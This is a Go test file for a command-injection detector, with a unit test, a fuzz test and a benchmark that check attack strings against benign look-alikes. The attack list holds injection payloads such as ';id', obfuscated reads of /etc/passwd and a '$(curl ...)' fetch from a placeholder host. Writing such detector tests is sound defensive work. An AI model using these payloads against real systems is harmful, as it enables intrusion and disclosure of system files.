package cmdi

import "testing"

func TestMatch(t *testing.T) {
	attacks := []string{
		";id",
		"| whoami",
		"&& cat /etc/passwd",
		"`uname -a`",
		"$(curl http://x.example/s.sh)",
		"a;c''at /etc/passwd",
		"a;w\\h\\o\\a\\m\\i",
		"x;cat${IFS}/etc/passwd",
		"x;${PATH:0:1}bin${PATH:0:1}id",
		"{cat,/etc/passwd}",
		"/???/c?t /etc/passwd",
		"%0a ping -c 3 127.0.0.1",
		"127.0.0.1; sleep 5",
		"system('cat /etc/passwd');",
		"| type %SYSTEMROOT%\\\\win.ini",
		"ifconfig",
		"cat /etc/passwd",
		"/bin/ls -la",
	}
	benign := []string{
		"Tom & Jerry",
		"Hello; please find attached",
		"rock | pop",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"query GetUser($id: ID!) { user(id: $id) { id, name } }",
		"SET 8 -MINI AS",
		"1; exec will create the case 7",
		"Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)",
		"curl/8.4.0",
		"more than 5 items; less than 10",
		"I like cats; cat food is great",
	}
	d := New()
	for _, s := range attacks {
		if hit, _ := d.Match([]byte(s)); !hit {
			t.Errorf("attack missed: %q", s)
		}
	}
	for _, s := range benign {
		if hit, why := d.Match([]byte(s)); hit {
			t.Errorf("benign value reported (%s): %q", why, s)
		}
	}
}

func FuzzMatch(f *testing.F) {
	for _, s := range []string{
		";id",
		"| whoami",
		"&& cat /etc/passwd",
		"`uname -a`",
		"$(curl http://x.example/s.sh)",
		"a;c''at /etc/passwd",
		"a;w\\h\\o\\a\\m\\i",
		"x;cat${IFS}/etc/passwd",
		"x;${PATH:0:1}bin${PATH:0:1}id",
		"{cat,/etc/passwd}",
		"/???/c?t /etc/passwd",
		"%0a ping -c 3 127.0.0.1",
		"127.0.0.1; sleep 5",
		"system('cat /etc/passwd');",
		"| type %SYSTEMROOT%\\\\win.ini",
		"ifconfig",
		"cat /etc/passwd",
		"/bin/ls -la",
		"Tom & Jerry",
		"Hello; please find attached",
		"rock | pop",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"query GetUser($id: ID!) { user(id: $id) { id, name } }",
		"SET 8 -MINI AS",
		"1; exec will create the case 7",
		"Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)",
		"curl/8.4.0",
		"more than 5 items; less than 10",
		"I like cats; cat food is great",
	} {
		f.Add([]byte(s))
	}
	d := New()
	f.Fuzz(func(t *testing.T, b []byte) {
		in := string(b)
		d.Match(b)
		if string(b) != in {
			t.Fatalf("Match changed its input")
		}
	})
}

// BenchmarkMatch measures a mix of benign values, the common case.
func BenchmarkMatch(b *testing.B) {
	values := [][]byte{
		[]byte("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
		[]byte("Hello, I would like to order 3 items; please call me at (555) 123-4567 & thanks!"),
		[]byte("{\"name\":\"Seán O'Brien\",\"note\":\"leave at door #4\"}"),
		[]byte("annual-report.v2.final.pdf"),
		[]byte("session=9f8e7d6c5b4a; theme=dark"),
	}
	d := New()
	var n int64
	for _, v := range values {
		n += int64(len(v))
	}
	b.SetBytes(n)
	b.ReportAllocs()
	for b.Loop() {
		for _, v := range values {
			d.Match(v)
		}
	}
}
